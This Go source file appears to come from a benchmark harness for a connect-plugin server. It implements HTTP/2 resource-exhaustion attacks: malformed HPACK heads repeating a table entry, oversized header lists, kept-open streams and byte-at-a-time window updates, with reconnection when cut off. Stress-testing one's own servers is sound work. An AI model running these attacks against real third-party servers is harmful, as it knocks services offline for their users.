//nolint:wrapcheck // errors of the framer end an attack, and nobody looks at them
package kinds

import (
	"bytes"
	"context"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/masegraye/connect-plugin-go/bench/stage"
)

const (
	probePath   = "/healthz"
	badRepeats  = 16_000 // of one entry of the table in a bad head: the rest of a frame
	manyFields  = 900    // about as many as a head may have
	keptFields  = 700
	keptOpen    = 250 // requests on each connection
	fewAtOnce   = 100 // requests that are not answered yet
	fewDownload = 64  // on a connection
	glance      = 100 * time.Microsecond
	everySo     = 8 // requests, after which a pause lets others in
)

// severally plays an attack on several connections, each begun anew when it is cut off.
func severally(run func(context.Context, *attack) error) func(context.Context, *attack) error {
	return func(ctx context.Context, a *attack) error {
		var working sync.WaitGroup
		for range connecting {
			working.Go(func() {
				for ctx.Err() == nil {
					if run(ctx, a) != nil {
						rest(ctx)
					}
				}
			})
		}
		working.Wait()
		return nil
	}
}

// paced is a step that waits for answers, or for the first bytes of one, whenever so many were asked for.
func paced(step func(c *conn, i uint32) error) func(c *conn, i uint32) error {
	return func(c *conn, i uint32) error {
		if i > 0 && i%fewAtOnce == 0 {
			if err := c.await(int64(i)); err != nil {
				return err
			}
		}
		return step(c, i)
	}
}

// await waits until so many answers have begun.
func (c *conn) await(n int64) error { return c.awaitAll(&c.answers, n) }

// awaitEnds waits until n of its streams ended.
func (c *conn) awaitEnds(n int64) error { return c.awaitAll(&c.ended, n) }

func (c *conn) awaitAll(came *atomic.Int64, n int64) error {
	if err := c.flush(); err != nil {
		return err
	}
	for came.Load() < n {
		select {
		case <-c.gone:
			return errGone
		case <-c.ctx.Done():
			return c.ctx.Err()
		case <-time.After(glance):
		}
	}
	return nil
}

// badHeads are malformed, and go on with the largest field of the host's table, a byte each.
func badHeads(c *conn, i uint32) error {
	if i == 0 {
		_, err := c.open(c.head(discoverPath, "x"+strings.Repeat("a", entry), ""), true)
		return err
	}
	const path, newest = 4 | 0x80, 62 | 0x80
	_, err := c.open(append([]byte{path, path}, bytes.Repeat([]byte{newest}, badRepeats)...), true)
	return err
}

// probe is the head of a probe, which nobody pays for and which adds nothing to the table.
func (c *conn) probe() []byte {
	c.block.Reset()
	for _, f := range []hpack.HeaderField{
		{Name: fieldMethod, Value: http.MethodGet},
		{Name: fieldScheme, Value: "https"},
		{Name: fieldAuthority, Value: c.attack.addr, Sensitive: true},
		{Name: fieldPath, Value: probePath, Sensitive: true},
	} {
		_ = c.fields.WriteField(f)
	}
	return bytes.Clone(c.block.Bytes())
}

// longProbes are probes with as many fields as a head may have.
func longProbes(c *conn, i uint32) error {
	const newest = 62 | 0x80
	block := c.probe()
	if i == 0 {
		const added = 0x40 // to the table
		block = append(block, added, 1, 'x', 0)
	}
	_, err := c.open(append(block, bytes.Repeat([]byte{newest}, manyFields)...), true)
	return err
}

// paidHeads are bad ones, between probes that earn them.
func paidHeads(c *conn, i uint32) error {
	if i%2 == 0 {
		return badHeads(c, i)
	}
	_, err := c.open(c.probe(), true)
	return err
}

// distinct are many fields, no two requests of which have the same.
func distinct(k int) []string {
	list := make([]string, 0, keptFields+keptFields)
	for i := range keptFields {
		list = append(list, "x"+strconv.Itoa(k)+"-"+strconv.Itoa(i), "")
	}
	return list
}

// kept opens requests of many fields and leaves them as they are.
func kept(ctx context.Context, a *attack, path string, end bool) error {
	c, err := a.connect(ctx, true)
	if err != nil {
		return err
	}
	defer c.close()
	for k := range keptOpen {
		if err := c.more(); err != nil {
			return err
		}
		if _, err := c.open(c.head(path, distinct(k)...), end); err != nil {
			return c.lost(err)
		}
		if k%everySo == 0 {
			if err := c.flush(); err != nil {
				return c.lost(err)
			}
			pause(ctx, glance)
		}
	}
	return c.linger()
}

func keptHandshakes(ctx context.Context, a *attack) error { return kept(ctx, a, handshakePath, false) }

func keptCalls(ctx context.Context, a *attack) error { return kept(ctx, a, routePath+stage.Slow, true) }

// narrow reads downloads a byte at a time, and asks for the next when some came.
func narrow(c *conn, i uint32) error {
	if i == 0 {
		for range fewDownload {
			if _, err := c.open(c.cached(routePath+stage.Pour), true); err != nil {
				return err
			}
		}
		return nil
	}
	if i%fewDownload == 0 {
		if err := c.await(c.answers.Load() + 1); err != nil {
			return err
		}
	}
	return c.WriteWindowUpdate(1+2*(i%fewDownload), 1)
}

// byByte are windows that hold nothing until they are opened.
var byByte = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}
